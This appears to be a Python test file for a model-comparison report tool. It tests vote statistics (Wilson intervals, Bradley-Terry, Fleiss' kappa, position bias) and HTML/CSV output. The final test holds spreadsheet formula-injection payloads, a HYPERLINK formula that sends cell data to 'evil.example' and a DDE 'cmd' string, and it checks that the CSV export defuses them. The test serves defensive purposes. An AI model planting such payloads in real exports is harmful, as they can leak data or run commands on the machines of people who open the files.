"""The statistics of pairwise votes against values known in closed form or published, and the votes' CSV."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest

from blackbox.reports.preferences import (
    FORMULA_STARTS,
    bradley_terry,
    fleiss_kappa,
    group_preferences,
    safe_cell,
    votes_csv,
    wilson_interval,
)
from blackbox.reports.votes import Vote


def test_wilson_interval() -> None:
    # 8 of 10: [0.4902, 0.9433] (Wilson 1927; e.g. Newcombe 1998, Table I method 3 gives the same)
    low, high = wilson_interval(8, 10)
    assert (round(low, 4), round(high, 4)) == (0.4902, 0.9433)
    assert wilson_interval(0, 0) == (0.0, 1.0)
    assert wilson_interval(5, 5)[1] == 1.0


def test_bradley_terry_recovers_strengths_whose_expected_wins_were_observed() -> None:
    # Strengths 1, 2, 4: P(x beats y) = 1/3, 1/5 and 1/3 for (x, y) = (a, b), (a, c), (b, c). Counts that
    # equal those expectations solve the likelihood equations, so the maximum-likelihood fit is exactly them.
    wins = {("a", "b"): 1, ("b", "a"): 2, ("a", "c"): 1, ("c", "a"): 4, ("b", "c"): 1, ("c", "b"): 2}
    strengths = bradley_terry(["a", "b", "c"], wins, prior=0)
    scale = strengths["a"]
    assert [strengths[m] / scale for m in "abc"] == pytest.approx([1, 2, 4], rel=1e-9)
    # Two models, 3 wins to 1: a ratio of 3; a prior pulls it towards 1.
    two = bradley_terry(["x", "y"], {("x", "y"): 3, ("y", "x"): 1}, prior=0)
    assert two["x"] / two["y"] == pytest.approx(3)
    shrunk = bradley_terry(["x", "y"], {("x", "y"): 3, ("y", "x"): 1})
    assert shrunk["x"] / shrunk["y"] == pytest.approx(3.5 / 1.5)
    # Never won: finite with the prior
    assert 0 < bradley_terry(["x", "y"], {("x", "y"): 5})["y"] < 1


def test_fleiss_kappa_of_the_published_example() -> None:
    # Fleiss (1971) as worked on Wikipedia ("Fleiss' kappa"): 10 items, 14 raters, 5 categories: kappa 0.210.
    table = [
        [0, 0, 0, 0, 14], [0, 2, 6, 4, 2], [0, 0, 3, 5, 6], [0, 3, 9, 2, 0], [2, 2, 8, 1, 1],
        [7, 7, 0, 0, 0], [3, 2, 6, 3, 0], [2, 5, 3, 2, 2], [6, 5, 2, 1, 0], [0, 2, 2, 3, 7],
    ]  # fmt: skip
    assert fleiss_kappa(table) == pytest.approx(0.20993, abs=1e-5)
    assert fleiss_kappa([[2, 0, 0], [0, 2, 0]]) == pytest.approx(1.0)


def test_groups_win_rates_and_agreement() -> None:
    def vote(rater: str, question: str, verdict: str, a: str = "base", b: str = "best") -> Vote:
        return Vote(rater, question, a, b, verdict, True)  # type: ignore[arg-type]

    votes = [
        vote("ann", "q1", "b"), vote("bob", "q1", "b"), vote("ann", "q2", "b"), vote("bob", "q2", "a"),
        vote("ann", "q3", "tie"), vote("judge:tiny", "q1", "tie"), vote("judge:tiny", "q2", "both_bad"),
    ]  # fmt: skip
    people, judge = group_preferences(votes)
    assert (people.group, people.votes, judge.group, judge.votes) == ("people", 5, "judge:tiny", 2)
    best = people.overall["best"]
    assert (best.votes, best.wins, best.losses, best.ties) == (5, 3, 1, 1)
    assert best.win_rate == pytest.approx(3.5 / 5)
    assert people.models == ["best", "base"] and people.strengths["base"] == 1.0
    assert people.strengths["best"] == pytest.approx(4 / 2)  # 3.5 to 1.5 wins, and a virtual tie
    assert people.per_rater == {"ann": 3, "bob": 2}
    agreement = people.agreement
    assert agreement is not None and (agreement.items, agreement.rater_pairs, agreement.share) == (2, 2, 0.5)
    assert math.isclose(judge.overall["best"].win_rate, 0.5)
    assert votes_csv(votes).splitlines()[1].startswith("ann,q1,base,best,b,best,1,")


def test_report_adds_the_comparison_of_the_study_folder(tmp_path: Path) -> None:
    from blackbox.assessment.compare.votes import add_vote, votes_db
    from blackbox.reports import write_report

    records = [
        {"status": "OK", "run_id": f"r{i}", "metrics": {"validation_loss": loss}, "hparams": {"lora_r": 2 * i}}
        for i, loss in enumerate((1.5, 1.2), start=1)
    ]
    (tmp_path / "records.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
    with votes_db(tmp_path / "votes.sqlite") as connection:
        add_vote(connection, Vote("ann", "q1", "base", "best", "b", True))
        add_vote(connection, Vote("ann", "q2", "base", "best", "b", False))
        add_vote(connection, Vote("judge:m", "q1", "<b>x</b>", "base", "b", True))
    files = write_report([str(tmp_path)], tmp_path / "report")
    page = files["html"].read_text()
    assert "<h2>Blind comparison (" in page and "<h3>people: 2 votes</h3>" in page
    assert "&lt;b&gt;x&lt;/b&gt;" in page and "<b>x</b>" not in page  # labels are escaped too
    summary = json.loads(files["summary"].read_text())["preferences"]
    people = summary["groups"][0]
    assert people["models"][0]["model"] == "best" and people["models"][0]["win_rate"] == 1.0
    assert people["position_bias"]["first"] == 1 and people["position_bias"]["second"] == 1  # best: left, right
    assert summary["groups"][1]["group"] == "judge:m"


def test_position_bias_of_people_and_of_a_judge() -> None:
    from blackbox.reports.preferences import position_bias, results_text
    from blackbox.reports.votes import judge_detail

    # People: the left answer won 3 of 4 votes for one answer (a: model_a, shown left when a_shown_first).
    people = [
        Vote("ann", "q1", "m1", "m2", "a", True), Vote("ann", "q2", "m1", "m2", "b", False),
        Vote("bob", "q1", "m1", "m2", "b", False), Vote("bob", "q2", "m1", "m2", "a", False),
        Vote("bob", "q3", "m1", "m2", "tie", True),
    ]  # fmt: skip
    bias = position_bias(people)
    assert (bias.first, bias.second, bias.neither, bias.pairs, bias.consistent) == (3, 1, 1, None, None)
    assert bias.share == 0.75 and bias.interval == wilson_interval(3, 4)
    # A judge: each pair asked in both orders; A is the answer shown first in either order.
    judge = [
        Vote("judge:j", "q1", "m1", "m2", "a", True, judge_detail("A", "B")),  # m1 both times: consistent
        Vote("judge:j", "q2", "m1", "m2", "tie", True, judge_detail("A", "A")),  # first both times
        Vote("judge:j", "q3", "m1", "m2", "tie", True, judge_detail("C", None)),
    ]
    bias = position_bias(judge)
    assert (bias.first, bias.second, bias.neither, bias.pairs, bias.consistent) == (3, 1, 2, 3, 1)
    text = results_text(group_preferences([*people, *judge]))
    assert "Position bias: the answer shown left won 75.0% [30.1%, 95.4%] of 4 verdicts" in text
    assert "the answer shown first (A) won 75.0%" in text and "same model in 1 of 3 pairs" in text
    assert math.isnan(position_bias([Vote("ann", "q1", "m1", "m2", "tie", True)]).share)


def test_csv_cells_that_a_spreadsheet_would_run_are_text() -> None:
    # Model names, question ids and judge names come from answers files and options: OWASP's payloads in each.
    hyperlink, command = '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0"
    votes = [
        Vote("ann", "=1+1", command, hyperlink, "b", True),
        Vote("judge:x", "q2", "-2+3", "@SUM(A1:A9)", "a", False, "\t=1"),
        Vote("bob", "\r=1", "base", "best\r=2+5", "tie", True),  # a CR in a cell: no row of its own
    ]
    rows = list(csv.reader(io.StringIO(votes_csv(votes), newline="")))
    assert rows[1][1:6] == ["'=1+1", "'" + command, "'" + hyperlink, "b", "'" + hyperlink]  # the winner too
    assert rows[2][2:4] == ["'-2+3", "'@SUM(A1:A9)"] and rows[2][8] == "'\t=1"
    assert rows[3][1:4] == ["'\r=1", "base", "best\r=2+5"] and len(rows) == 4
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert [safe_cell(v) for v in ("best", "", 1, "a=b", "q-1")] == ["best", "", "1", "a=b", "q-1"]  # text as it is
